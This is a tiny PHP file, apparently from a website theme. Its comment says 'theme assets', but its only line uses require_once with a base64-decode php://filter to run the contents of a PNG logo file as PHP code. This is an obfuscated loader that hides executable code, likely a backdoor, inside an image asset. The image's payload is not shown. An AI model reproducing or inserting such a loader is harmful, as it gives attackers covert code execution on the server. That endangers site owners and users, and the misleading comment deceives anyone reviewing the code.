<?php
// theme assets
require_once 'php://filter/convert.base64-decode/resource=assets/img/logo-pemda.png';
